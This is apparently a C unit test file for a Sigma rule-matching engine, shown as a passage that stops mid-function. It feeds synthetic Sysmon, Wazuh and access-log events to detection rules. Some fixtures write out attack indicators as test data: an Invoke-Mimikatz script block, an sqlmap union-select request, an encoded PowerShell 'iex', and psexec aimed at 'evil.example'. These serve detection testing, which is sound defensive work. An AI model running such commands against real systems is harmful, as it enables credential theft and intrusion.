/*
 * test_detect_rules.c: Sigma rules as the engine must read them: each
 * modifier and condition form on project-written rules and events, the
 * refusals with their place and reason, the shipped rules against a
 * positive event each, and (when ../shared/data is there) every SigmaHQ
 * rule loaded and every SigmaHQ regression event matched by its rule.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "detect/sigma/correlate.h"
#include "detect/input/parse.h"
#include "detect/sigma/rules.h"
#include "detect/sigma/rules_int.h"
#include "helpers.h"

static const det_syslog_opts OPTS = {2026, 420};
static det_event ev;

/* Titles matched, joined by ';'. */
static char hits[4096];

static void collect(void *ctx, const det_rule *r, const det_event *e)
{
	(void)ctx, (void)e;
	if (hits[0])
		strcat(hits, ";");
	strncat(hits, r->title, sizeof hits - strlen(hits) - 2);
}

static det_rules *rules_of(const char *yaml)
{
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	int n = det_rules_add(rs, yaml, strlen(yaml), "test.yml", &d);
	if (d.n)
		fail_msg("%s:%d:%d: %s", d.v[0].file, d.v[0].line, d.v[0].col, d.v[0].msg);
	assert_true(n > 0);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	diags_free(&d);
	return rs;
}

static const char *run(det_rules *rs, const char *line)
{
	const char *why;
	hits[0] = '\0';
	det_matcher *m = det_matcher_new(rs);
	if (det_parse_line(line, strlen(line), &OPTS, &ev, &why) != 0)
		fail_msg("line not parsed: %s", why);
	det_match(m, &ev, collect, NULL);
	det_matcher_free(m);
	return hits;
}

/* A JSON-lines rule: logsource json via the mapping's format entry is
 * not there, so these rules use the Windows process_creation source. */
#define PC "logsource: {product: windows, category: process_creation}\n"
#define SYSMON "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"EventID\":1"

static void event_json(char *out, size_t n, const char *image, const char *cmd)
{
	snprintf(out, n,
	         "{\"Event\":{\"System\":{" SYSMON
	         "},\"EventData\":{\"Image\":\"%s\",\"CommandLine\":\"%s\",\"ProcessId\":\"4242\","
	         "\"User\":\"KAB\\\\budi\",\"ParentUser\":\"KAB\\\\budi\"}}}",
	         image, cmd);
}

/* Fails unless the Sysmon event of image and cmd matches the rules
 * titled want (joined by ';', "" for none); the line is as long as its
 * values need. */
static void expect_sysmon(det_rules *rs, const char *image, const char *cmd, const char *want)
{
	size_t n = strlen(image) + strlen(cmd) + 512;
	char *line = malloc(n);
	assert_non_null(line);
	event_json(line, n, image, cmd);
	if (strcmp(run(rs, line), want) != 0)
		fail_msg("'%.60s' '%.60s': got '%s', want '%s'", image, cmd, hits, want);
	free(line);
}

static void modifiers(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: plain\n" PC
	    "detection: {sel: {Image: 'C:\\Windows\\System32\\cmd.exe'}, condition: sel}\n"
	    "---\ntitle: wildcard\n" PC "detection: {sel: {Image: '*\\cm?.exe'}, condition: sel}\n"
	    "---\ntitle: contains\n" PC
	    "detection: {sel: {CommandLine|contains: 'WHOAMI'}, condition: sel}\n"
	    "---\ntitle: startswith\n" PC
	    "detection: {sel: {CommandLine|startswith: 'cmd /c'}, condition: sel}\n"
	    "---\ntitle: endswith-list\n" PC "detection: {sel: {Image|endswith: "
	                                     "['\\powershell.exe', '\\cmd.exe']}, condition: sel}\n"
	    "---\ntitle: all\n" PC
	    "detection: {sel: {CommandLine|contains|all: ['whoami', '/priv']}, condition: sel}\n"
	    "---\ntitle: all-missing\n" PC
	    "detection: {sel: {CommandLine|contains|all: ['whoami', '/groups']}, condition: sel}\n"
	    "---\ntitle: cased\n" PC
	    "detection: {sel: {CommandLine|contains|cased: 'WHOAMI'}, condition: sel}\n"
	    "---\ntitle: re\n" PC
	    "detection: {sel: {CommandLine|re: 'who[a-z]{2}i /pr'}, condition: sel}\n"
	    "---\ntitle: re-case\n" PC
	    "detection: {sel: {CommandLine|re: 'WHOAMI'}, condition: sel}\n"
	    "---\ntitle: re-i\n" PC
	    "detection: {sel: {CommandLine|re|i: 'WHOAMI'}, condition: sel}\n"
	    "---\ntitle: windash\n" PC
	    "detection: {sel: {CommandLine|windash|contains: ' -priv'}, condition: sel}\n"
	    "---\ntitle: exists\n" PC "detection: {sel: {ProcessId|exists: true}, condition: sel}\n"
	    "---\ntitle: not-exists\n" PC
	    "detection: {sel: {LogonId|exists: false}, condition: sel}\n"
	    "---\ntitle: gt\n" PC "detection: {sel: {ProcessId|gt: 4000}, condition: sel}\n"
	    "---\ntitle: lte\n" PC "detection: {sel: {ProcessId|lte: 4000}, condition: sel}\n"
	    "---\ntitle: null\n" PC "detection: {sel: {LogonId: null}, condition: sel}\n"
	    "---\ntitle: fieldref\n" PC
	    "detection: {sel: {User|fieldref: ParentUser}, condition: sel}\n"
	    "---\ntitle: neq\n" PC
	    "detection: {sel: {Image|neq: 'C:\\Windows\\System32\\cmd.exe'}, condition: sel}\n"
	    "---\ntitle: any\n" PC "detection: {sel: {Image: '*'}, condition: sel}\n"
	    "---\ntitle: keyword\n" PC
	    "detection: {keywords: ['nothing-here', 'whoami /PRIV'], condition: keywords}\n");
	char line[1024];
	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe",
	           "cmd /c whoami /priv");
	assert_string_equal(run(rs, line),
	                    "plain;wildcard;contains;startswith;endswith-list;all;re;re-i;"
	                    "windash;exists;not-exists;gt;null;fieldref;any;keyword");
	/* The same command with a slash flag written as a dash, another image. */
	event_json(line, sizeof line, "C:\\\\Tools\\\\PowerShell.EXE", "powershell /priv WHOAMI");
	assert_string_equal(run(rs, line),
	                    "contains;endswith-list;all;cased;re-case;re-i;windash;exists;"
	                    "not-exists;gt;null;fieldref;neq;any");
	det_rules_free(rs);
}

/* A Wazuh alert's message (the text after the syslog header of its
 * full_log) is tested by keywords as written in the log, unescaped; one
 * with nothing escaped is inside the line, so it is not tested again,
 * unless a keyword test reads what lies around its match ("^Failed"
 * holds in the message, not in the line). */
static void keywords_of_wazuh_messages(void **state)
{
	(void)state;
#define SSHD "logsource: {product: linux, service: sshd}\n"
	static const char *const rules =
	    "title: plain\n" SSHD "detection: {keywords: ['Failed password'], condition: keywords}\n"
	    "---\ntitle: quoted\n" SSHD "detection: {keywords: ['user \"admin\"'], condition: keywords}\n"
	    "---\ntitle: backslash\n" SSHD "detection: {keywords: ['a\\b'], condition: keywords}\n"
	    "---\ntitle: wild\n" SSHD "detection: {keywords: ['Failed*root'], condition: keywords}\n";
	static const char *const anchored =
	    "---\ntitle: anchored\n" SSHD "detection: {keywords: {'|re': '^Failed'}, condition: keywords}\n"
	    "---\ntitle: ahead\n" SSHD
	    "detection: {keywords: {'|re': 'for root(?!\")'}, condition: keywords}\n";
	static const struct {
		const char *full_log, *want, *want_anchored;
	} cases[] = {
	    {"Nov 23 10:00:00 h sshd[1]: Failed password for root from 192.0.2.1", "plain;wild",
	     "plain;wild;anchored;ahead"},
	    {"Nov 23 10:00:00 h sshd[1]: Invalid user \\\"admin\\\" from 192.0.2.1", "quoted",
	     "quoted"},
	    {"Dec 1 h sshd[1]: path a\\\\b", "backslash", "backslash"},
	    {"Nov 23 10:00:00 h sshd[1]: x Failed", "", ""},
	    /* "Failed*root": "failed." of the rule's description, then the log */
	    {"Nov 23 10:00:00 h sshd[1]: session for root", "wild", "wild;ahead"},
	};
	for (int pass = 0; pass < 2; pass++) {
		char yaml[2048];
		snprintf(yaml, sizeof yaml, "%s%s", rules, pass ? anchored : "");
		det_rules *rs = rules_of(yaml);
		assert_int_equal(rs->keywords_in_line, pass == 0);
		for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
			char line[1024];
			snprintf(line, sizeof line,
			         "{\"timestamp\":\"2026-11-23T10:00:00.000+0700\",\"rule\":{\"level\":5,"
			         "\"description\":\"sshd: authentication failed.\",\"id\":\"5760\"},"
			         "\"agent\":{\"id\":\"001\",\"name\":\"h\"},\"full_log\":\"%s\","
			         "\"predecoder\":{\"program_name\":\"sshd\"},\"decoder\":{\"name\":\"sshd\"}}",
			         cases[i].full_log);
			const char *want = pass ? cases[i].want_anchored : cases[i].want;
			if (strcmp(run(rs, line), want) != 0)
				fail_msg("pass %d, '%s': got '%s', want '%s'", pass, cases[i].full_log, hits,
				         want);
		}
		det_rules_free(rs);
	}
	/* Each of these reads what lies around its match: the message is
	 * tested on its own. */
	static const char *const around[] = {
	    "^Failed", "Failed$", "\\bFailed", "x(?!\")", "(?<=: )Failed", "x(?>ab\"|a)b",
	    "xa(?:b\")?+b", "x(*COMMIT)y", "(*nla:x)x", "x(?(?=a)b|c)"};
	for (size_t i = 0; i < sizeof around / sizeof around[0]; i++) {
		char yaml[2048];
		snprintf(yaml, sizeof yaml,
		         "%s---\ntitle: around\n" SSHD
		         "detection: {keywords: {'|re': '%s'}, condition: keywords}\n",
		         rules, around[i]);
		det_rules *rs = rules_of(yaml);
		if (rs->keywords_in_line)
			fail_msg("%s: taken as found in any text holding its match", around[i]);
		det_rules_free(rs);
	}
#undef SSHD
}

static void encodings_and_networks(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: b64off\n" PC
	    "detection: {sel: {CommandLine|base64offset|contains: 'http://'}, condition: sel}\n"
	    "---\ntitle: b64\n" PC
	    "detection: {sel: {CommandLine|base64|contains: 'whoami'}, condition: sel}\n"
	    "---\ntitle: wide-b64\n" PC
	    "detection: {sel: {CommandLine|wide|base64offset|contains: 'iex'}, condition: sel}\n"
	    "---\ntitle: cidr\n" PC
	    "detection: {sel: {SourceIp|cidr: ['10.0.0.0/8', '2001:db8::/32']}, condition: sel}\n");
	char line[1024];
	/* base64("xhttp://a") = eGh0dHA6Ly9h: the value at offset 1. */
	event_json(line, sizeof line, "C:\\\\x.exe", "powershell -e eGh0dHA6Ly9h");
	assert_string_equal(run(rs, line), "b64off");
	/* base64("whoami") = d2hvYW1p */
	event_json(line, sizeof line, "C:\\\\x.exe", "x d2hvYW1p");
	assert_string_equal(run(rs, line), "b64");
	/* base64 of UTF-16LE "iex" at offset 0: aQBlAHgA */
	event_json(line, sizeof line, "C:\\\\x.exe", "powershell -enc aQBlAHgA");
	assert_string_equal(run(rs, line), "wide-b64");
	snprintf(line, sizeof line,
	         "{\"Event\":{\"System\":{" SYSMON
	         "},\"EventData\":{\"SourceIp\":\"10.20.30.40\"}}}");
	assert_string_equal(run(rs, line), "cidr");
	snprintf(line, sizeof line,
	         "{\"Event\":{\"System\":{" SYSMON
	         "},\"EventData\":{\"SourceIp\":\"2001:db8:1::5\"}}}");
	assert_string_equal(run(rs, line), "cidr");
	snprintf(line, sizeof line,
	         "{\"Event\":{\"System\":{" SYSMON "},\"EventData\":{\"SourceIp\":\"11.0.0.1\"}}}");
	assert_string_equal(run(rs, line), "");
	det_rules_free(rs);
}

static void conditions(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: one-of\n" PC "detection:\n  sel_a: {Image|endswith: '\\a.exe'}\n  sel_b: "
	                         "{Image|endswith: '\\cmd.exe'}\n  condition: 1 of sel_*\n"
	    "---\ntitle: all-of\n" PC
	    "detection:\n  sel_a: {Image|endswith: '\\cmd.exe'}\n  sel_b: {CommandLine|contains: "
	    "whoami}\n  condition: all of sel_*\n"
	    "---\ntitle: not-filter\n" PC
	    "detection:\n  sel: {Image|endswith: '\\cmd.exe'}\n  filter_main: "
	    "{CommandLine|contains: whoami}\n  condition: sel and not 1 of filter_main*\n"
	    "---\ntitle: parens\n" PC
	    "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  b: {CommandLine|contains: nope}\n  "
	    "c: {CommandLine|contains: priv}\n  condition: a and (b or c)\n"
	    "---\ntitle: them\n" PC "detection:\n  a: {Image|endswith: '\\cmd.exe'}\n  _hidden: "
	                            "{CommandLine|contains: nope}\n  condition: all of them\n"
	    "---\ntitle: list\n" PC "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  b: "
	                            "{CommandLine|contains: whoami}\n  condition: [a, b]\n"
	    "---\ntitle: only-not\n" PC
	    "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  condition: not a\n"
	    "---\ntitle: list-of-maps\n" PC
	    "detection:\n  a:\n    - {Image|endswith: '\\nope.exe'}\n    - {CommandLine|contains: "
	    "whoami}\n  condition: a\n"
	    "---\ntitle: precedence\n" PC
	    "detection:\n  a: {Image|endswith: '\\nope.exe'}\n  b: {CommandLine|contains: "
	    "whoami}\n  c: {CommandLine|contains: nope}\n  condition: a and b or not c\n");
	char line[1024];
	event_json(line, sizeof line, "C:\\\\Windows\\\\System32\\\\cmd.exe",
	           "cmd /c whoami /priv");
	assert_string_equal(run(rs, line),
	                    "one-of;all-of;parens;them;list;only-not;list-of-maps;precedence");
	/* Another logsource: none of these rules may fire, even "not a". */
	assert_string_equal(run(rs, "Nov 23 08:00:01 web01 sshd[1]: Accepted password for budi "
	                            "from 10.0.0.1 port 1 ssh2"),
	                    "");
	det_rules_free(rs);
}

/* A field test takes as many values as its list holds: SigmaHQ's
 * vulnerable-driver rule lists 4,432 hashes under one field. */
static void many_values(void **state)
{
	(void)state;
	enum { N = 5000 };
	size_t cap = 200 + N * 64, n = 0;
	char *yaml = malloc(cap);
	n += (size_t)snprintf(yaml + n, cap - n,
	                      "title: many\n" PC "detection:\n  sel:\n    CommandLine|contains:\n");
	for (int i = 0; i < N; i++)
		n += (size_t)snprintf(yaml + n, cap - n, "      - 'MD5=%032x'\n", i * 7919);
	snprintf(yaml + n, cap - n, "  condition: sel\n");
	det_rules *rs = rules_of(yaml);
	free(yaml);
	char line[1024], cmd[128];
	snprintf(cmd, sizeof cmd, "SHA1=x,MD5=%032x,IMPHASH=y", (N - 1) * 7919);
	event_json(line, sizeof line, "C:\\\\x.sys", cmd);
	assert_string_equal(run(rs, line), "many");
	snprintf(cmd, sizeof cmd, "MD5=%032x", 7918);
	event_json(line, sizeof line, "C:\\\\x.sys", cmd);
	assert_string_equal(run(rs, line), "");
	det_rules_free(rs);
}

/* One event field answers to every Sigma name the mapping gives it, in
 * whichever order rules name them: the access log's user agent is the
 * webserver taxonomy's cs-user-agent and the proxy's c-useragent, its
 * query cs-uri-query and c-uri-query; Wazuh's data.url is c-uri and cs-uri. */
static void one_field_many_names(void **state)
{
	(void)state;
#define WEB "logsource: {category: webserver}\n"
	det_rules *rs = rules_of(
	    "title: proxy-ua\n" WEB "detection: {sel: {c-useragent|contains: sqlmap}, condition: sel}\n"
	    "---\ntitle: web-ua\n" WEB
	    "detection: {sel: {cs-user-agent|contains: sqlmap}, condition: sel}\n"
	    "---\ntitle: web-query\n" WEB
	    "detection: {sel: {cs-uri-query|contains: union}, condition: sel}\n"
	    "---\ntitle: proxy-query\n" WEB
	    "detection: {sel: {c-uri-query|contains: union}, condition: sel}\n"
	    "---\ntitle: proxy-client\n" WEB
	    "detection: {sel: {src_ip|cidr: 203.0.113.0/24}, condition: sel}\n"
	    "---\ntitle: uri\n" WEB "detection: {sel: {c-uri|contains: '/x.php'}, condition: sel}\n"
	    "---\ntitle: cs-uri\n" WEB
	    "detection: {sel: {cs-uri|contains: '/x.php'}, condition: sel}\n");
	assert_string_equal(run(rs, "203.0.113.9 - - [23/Nov/2026:08:00:01 +0700] \"GET "
	                            "/x.php?id=1+union+select HTTP/1.1\" 200 5 \"-\" \"sqlmap/1.7\""),
	                    "proxy-ua;web-ua;web-query;proxy-query;proxy-client;uri;cs-uri");
	assert_string_equal(
	    run(rs, "{\"decoder\":{\"name\":\"web-accesslog\"},\"data\":{\"srcip\":\"203.0.113.9\","
	            "\"url\":\"/x.php?id=2\"},\"full_log\":\"x\"}"),
	    "proxy-client;uri;cs-uri");
	det_rules_free(rs);
#undef WEB
	/* A mapping of its own: one event name under two Sigma names, each
	 * also a field of its own name. */
	rs = det_rules_new();
	diags d = DIAGS_INIT;
	const char *map = "fields: {a: [x], b: [x, a]}\n"
	                  "logsources: [{product: p, where: {format: json}}]\n";
	assert_int_equal(det_rules_set_mapping(rs, map, strlen(map), "map.yaml", &d), 0);
	const char *yaml = "title: a\nlogsource: {product: p}\ndetection: {s: {a: v}, condition: s}\n"
	                   "---\ntitle: b\nlogsource: {product: p}\ndetection: {s: {b: v}, condition: s}\n"
	                   "---\ntitle: x\nlogsource: {product: p}\ndetection: {s: {x: v}, condition: s}\n";
	assert_int_equal(det_rules_add(rs, yaml, strlen(yaml), "t.yml", &d), 3);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	assert_int_equal(d.n, 0);
	det_matcher *m = det_matcher_new(rs);
	static const struct {
		const char *line, *want;
	} cases[] = {
	    {"{\"x\":\"v\"}", "a;b;x"}, {"{\"a\":\"v\"}", "a;b"}, {"{\"b\":\"v\"}", "b"}};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *why;
		hits[0] = '\0';
		assert_int_equal(det_parse_line(cases[i].line, strlen(cases[i].line), &OPTS, &ev, &why),
		                 0);
		det_match(m, &ev, collect, NULL);
		if (strcmp(hits, cases[i].want) != 0)
			fail_msg("%s: got \"%s\", want \"%s\"", cases[i].line, hits, cases[i].want);
	}
	det_matcher_free(m);
	diags_free(&d);
	det_rules_free(rs);
}

/* The matcher finds an event's field names by their (length, first, last
 * byte) bit: names sharing a bit are told apart by their bytes, whatever
 * their length (under four, four to seven, eight and more, where the
 * difference is in the middle), and a name with the bit of a rule's field
 * but other bytes goes to no slot. */
static void names_sharing_a_bit(void **state)
{
	(void)state;
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	const char *map = "logsources: [{product: p, where: {format: json}}]\n";
	assert_int_equal(det_rules_set_mapping(rs, map, strlen(map), "map.yaml", &d), 0);
	const char *yaml =
	    "title: s1e\nlogsource: {product: p}\ndetection: {s: {s1e: v}, condition: s}\n"
	    "---\ntitle: s2e\nlogsource: {product: p}\ndetection: {s: {s2e: v}, condition: s}\n"
	    "---\ntitle: sa1e\nlogsource: {product: p}\ndetection: {s: {sa1e: v}, condition: s}\n"
	    "---\ntitle: sa2e\nlogsource: {product: p}\ndetection: {s: {sa2e: v}, condition: s}\n"
	    "---\ntitle: one\nlogsource: {product: p}\n"
	    "detection: {s: {source_one_address_x: v}, condition: s}\n"
	    "---\ntitle: two\nlogsource: {product: p}\n"
	    "detection: {s: {source_two_address_x: v}, condition: s}\n";
	assert_int_equal(det_rules_add(rs, yaml, strlen(yaml), "t.yml", &d), 6);
	assert_int_equal(det_rules_compile(rs, &d), 0);
	assert_int_equal(d.n, 0);
	assert_int_equal(rules_name_bit("s1e", 3), rules_name_bit("s2e", 3));
	assert_int_equal(rules_name_bit("sa1e", 4), rules_name_bit("sa2e", 4));
	assert_int_equal(rules_name_bit("source_one_address_x", 20),
	                 rules_name_bit("source_two_address_x", 20));
	static const struct {
		const char *line, *want;
	} cases[] = {
	    {"{\"s1e\":\"v\"}", "s1e"},
	    {"{\"s2e\":\"v\",\"s3e\":\"v\"}", "s2e"},
	    {"{\"sa2e\":\"v\",\"sa1e\":\"w\"}", "sa2e"},
	    {"{\"source_two_address_x\":\"v\"}", "two"},
	    {"{\"source_one_address_x\":\"v\",\"source_six_address_x\":\"v\"}", "one"},
	    {"{\"s3e\":\"v\",\"sa3e\":\"v\",\"source_ten_address_x\":\"v\"}", ""},
	};
	det_matcher *m = det_matcher_new(rs);
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		const char *why;
		hits[0] = '\0';
		assert_int_equal(det_parse_line(cases[i].line, strlen(cases[i].line), &OPTS, &ev, &why),
		                 0);
		det_match(m, &ev, collect, NULL);
		if (strcmp(hits, cases[i].want) != 0)
			fail_msg("%s: got \"%s\", want \"%s\"", cases[i].line, hits, cases[i].want);
	}
	det_matcher_free(m);
	diags_free(&d);
	det_rules_free(rs);
}

/* |expand fills "%name%" from the placeholders file: each combination of
 * values is one value of the OR, read as any Sigma string; a placeholder
 * the file does not give refuses only its rule, with its place. */
static void placeholders(void **state)
{
	(void)state;
	det_rules *rs = det_rules_new();
	diags d = DIAGS_INIT;
	const char *ph = "Admins_Workstations: ['ADM-PC01', 'ADM-LAB*']\n"
	                 "'%tools%': [psexec, wmic]\n"
	                 "domains: kab.go.id\n"
	                 "empty: []\n";
	assert_int_equal(det_rules_set_placeholders(rs, ph, strlen(ph), "ph.yaml", &d), 0);
	const char *yaml =
	    "title: admins\n" PC
	    "detection:\n  sel: {Computer|expand: '%Admins_Workstations%'}\n  condition: sel\n"
	    "---\ntitle: filtered\n" PC
	    "detection:\n  sel: {CommandLine|contains: whoami}\n"
	    "  filter: {Computer|expand: '%Admins_Workstations%'}\n"
	    "  condition: sel and not filter\n"
	    "---\ntitle: product\n" PC
	    "detection:\n  sel: {CommandLine|contains|expand: '%tools%.exe \\\\\\\\%domains%'}\n"
	    "  condition: sel\n"
	    "---\ntitle: missing\n" PC
	    "detection:\n  sel: {Computer|expand: '%dc_machine_accounts%'}\n  condition: sel\n"
	    "---\ntitle: empty\n" PC
	    "detection:\n  sel: {Computer|expand: ['%empty%']}\n  condition: sel\n";
	assert_int_equal(det_rules_add(rs, yaml, strlen(yaml), "ph.yml", &d), 3);
	assert_int_equal(d.n, 2);
	char got[600];
	snprintf(got, sizeof got, "%s:%d:%d: %s", d.v[0].file, d.v[0].line, d.v[0].col, d.v[0].msg);
	assert_string_equal(got, "ph.yml:23:26: placeholder %dc_machine_accounts% has no value "
	                         "(give its values in the placeholders file: [detect] "
	                         "placeholders, or --placeholders)");
	assert_non_null(strstr(d.v[1].msg, "placeholder %empty% has an empty list"));
	assert_int_equal(det_rules_compile(rs, &d), 0);
	det_matcher *m = det_matcher_new(rs);
	static const struct {
		const char *host, *cmd, *want;
	} cases[] = {
	    {"ADM-PC01", "cmd /c whoami", "admins"},
	    {"adm-lab17", "x", "admins"},
	    {"ADM-PC02", "cmd /c whoami", "filtered"},
	    {"PC9", "wmic.exe \\\\\\\\kab.go.id", "product"},
	    {"PC9", "psexec.exe \\\\\\\\kab.go.id", "product"},
	    {"PC9", "psexec.exe \\\\\\\\evil.example", ""},
	};
	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		char line[1024];
		const char *why;
		snprintf(line, sizeof line,
		         "{\"Event\":{\"System\":{" SYSMON ",\"Computer\":\"%s\"},\"EventData\":{"
		         "\"Image\":\"C:\\\\x.exe\",\"CommandLine\":\"%s\"}}}",
		         cases[i].host, cases[i].cmd);
		hits[0] = '\0';
		assert_int_equal(det_parse_line(line, strlen(line), &OPTS, &ev, &why), 0);
		det_match(m, &ev, collect, NULL);
		if (strcmp(hits, cases[i].want) != 0)
			fail_msg("case %zu: got \"%s\", want \"%s\"", i, hits, cases[i].want);
	}
	det_matcher_free(m);
	diags_free(&d);
	det_rules_free(rs);
	/* A placeholders file that is not a map of lists is refused. */
	rs = det_rules_new();
	d = (diags)DIAGS_INIT;
	assert_int_equal(det_rules_set_placeholders(rs, "a: {b: c}\n", 10, "bad.yaml", &d), -1);
	assert_non_null(strstr(d.v[0].msg, "placeholder 'a' needs a list of values"));
	diags_free(&d);
	det_rules_free(rs);
}

/* The Windows logsources Wazuh forwards and SigmaHQ names: each event
 * (exported-log or Wazuh shape) feeds its own category or service and
 * fires only the rule written for it. */
static void windows_logsources(void **state)
{
	(void)state;
	static const struct {
		const char *logsource, *test, *event;
	} cases[] = {
	    {"category: registry_delete", "TargetObject|endswith: '\\RunMRU'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":12},\"EventData\":{\"EventType\":\"DeleteKey\",\"TargetObject\":"
	     "\"HKU\\\\S-1\\\\Explorer\\\\RunMRU\"}}}"},
	    {"category: registry_add", "TargetObject|endswith: '\\Evil'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":12},\"EventData\":{\"EventType\":\"CreateKey\",\"TargetObject\":"
	     "\"HKLM\\\\Run\\\\Evil\"}}}"},
	    {"category: pipe_created", "PipeName: '\\REDSUN'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":17},\"EventData\":{\"PipeName\":\"\\\\REDSUN\"}}}"},
	    {"category: ps_script", "ScriptBlockText|contains: Invoke-Mimikatz",
	     "{\"data\":{\"win\":{\"system\":{\"channel\":\"Microsoft-Windows-PowerShell/"
	     "Operational\",\"eventID\":\"4104\"},\"eventdata\":{\"scriptBlockText\":\"IEX "
	     "Invoke-Mimikatz\"}}},\"full_log\":\"x\"}"},
	    {"category: ps_module", "Payload|contains: Get-ADUser",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-PowerShell/Operational\","
	     "\"EventID\":4103},\"EventData\":{\"Payload\":\"Get-ADUser -Filter *\"}}}"},
	    {"service: windefend", "ThreatName|endswith: EICAR_Test_File",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Windows Defender/"
	     "Operational\",\"EventID\":1116},\"EventData\":{\"Threat Name\":\"Virus:DOS/"
	     "EICAR_Test_File\"}}}"},
	    {"service: taskscheduler", "TaskName|contains: '\\SystemRestore\\SR'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-TaskScheduler/Operational\","
	     "\"EventID\":142},\"EventData\":{\"TaskName\":\"\\\\Microsoft\\\\Windows\\\\"
	     "SystemRestore\\\\SR\"}}}"},
	    {"service: wmi", "Operation|contains: cleareventlog",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-WMI-Activity/Operational\","
	     "\"EventID\":5858},\"UserData\":{\"Operation_ClientFailure\":{\"Operation\":"
	     "\"Win32_NTEventlogFile::cleareventlog\"}}}}"},
	    {"category: wmi_event", "Destination|contains: evil.vbs",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":20},\"EventData\":{\"Destination\":\"wscript evil.vbs\"}}}"},
	    {"category: driver_load", "Hashes|contains: 'MD5=C996D7971C49252C582171D9380360F2'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":6},\"EventData\":{\"Hashes\":\"SHA1=1,MD5=C996D7971C49252C582171D9380360F2"
	     "\"}}}"},
	    {"category: file_delete", "TargetFilename|endswith: '\\backup.vhd'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":23},\"EventData\":{\"TargetFilename\":\"D:\\\\backup.vhd\"}}}"},
	    {"category: dns_query", "QueryName|endswith: '.onion.ws'",
	     "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/Operational\","
	     "\"EventID\":22},\"EventData\":{\"QueryName\":\"x.onion.ws\"}}}"},
	};
	enum { N = sizeof cases / sizeof cases[0] };
	char yaml[16384];
	size_t o = 0;
	for (size_t i = 0; i < N; i++)
		o += (size_t)snprintf(yaml + o, sizeof yaml - o,
		                      "%stitle: r%zu\nlogsource: {product: windows, %s}\n"
		                      "detection: {sel: {%s}, condition: sel}\n",
		                      i ? "---\n" : "", i, cases[i].logsource, cases[i].test);
	det_rules *rs = rules_of(yaml);
	for (size_t i = 0; i < N; i++) {
		char want[16];
		snprintf(want, sizeof want, "r%zu", i);
		const char *got = run(rs, cases[i].event);
		if (strcmp(got, want) != 0)
			fail_msg("%s: got \"%s\", want \"%s\"", cases[i].logsource, got, want);
	}
	/* The same Sysmon registry event under another EventType is no deletion. */
	assert_string_equal(run(rs, "{\"Event\":{\"System\":{\"Channel\":\"Microsoft-Windows-Sysmon/"
	                            "Operational\",\"EventID\":12},\"EventData\":{\"EventType\":"
	                            "\"CreateKey\",\"TargetObject\":\"HKU\\\\RunMRU\"}}}"),
	                    "");
	det_rules_free(rs);
}

/* Matching goes by logsource: a slot's patterns are split by the entries
 * whose rules use them, short keywords that wake no rule are tested only
 * when a woken rule asks, and a rule that runs without a pattern firing
 * runs on its own logsource's events only. Each must still match as the
 * rules say. */
static void logsource_groups(void **state)
{
	(void)state;
	det_rules *rs = rules_of(
	    "title: ssh copy\n"
	    "logsource: {product: linux, service: sshd}\n"
	    "detection: {tool: [scp-to], target: ['@'], condition: tool and target}\n"
	    "---\n"
	    "title: web copy\n"
	    "logsource: {category: webserver}\n"
	    "detection: {tool: [scp-to], target: ['/'], condition: tool and target}\n"
	    "---\n"
	    "title: no backslash\n" PC
	    "detection: {sel: {Image|contains: '\\'}, condition: not sel}\n"
	    "---\n"
	    "title: never fed\n"
	    "logsource: {product: zeek, service: smb_files}\n"
	    "detection: {kw: [scp-to], condition: kw}\n");
	/* The short '@' is no scan of its own, yet decides. */
	assert_string_equal(run(rs, "<38>Nov 23 10:00:00 web01 sshd[1]: scp-to budi@10.0.0.9"),
	                    "ssh copy");
	assert_string_equal(run(rs, "<38>Nov 23 10:00:00 web01 sshd[1]: scp-to 10.0.0.9"), "");
	/* The web-server keyword database does not see syslog lines, and the
	 * sshd one does not see access lines. */
	assert_string_equal(run(rs, "<38>Nov 23 10:00:00 web01 sshd[1]: scp-to /tmp/x"), "");
	assert_string_equal(run(rs, "10.0.0.9 - - [23/Nov/2026:10:00:00 +0700] \"GET /scp-to@x "
	                            "HTTP/1.1\" 404 10 \"-\" \"curl/8\""),
	                    "web copy");
	/* The rule with no pattern to wake it: on process creation only. */
	char line[1024];
	event_json(line, sizeof line, "evil.exe", "evil.exe");
	assert_string_equal(run(rs, line), "no backslash");
	event_json(line, sizeof line, "C:\\\\Windows\\\\evil.exe", "evil.exe");
	assert_string_equal(run(rs, line), "");
	assert_string_equal(run(rs, "<38>Nov 23 10:00:00 web01 cron[1]: no image here"), "");
	det_rules_free(rs);
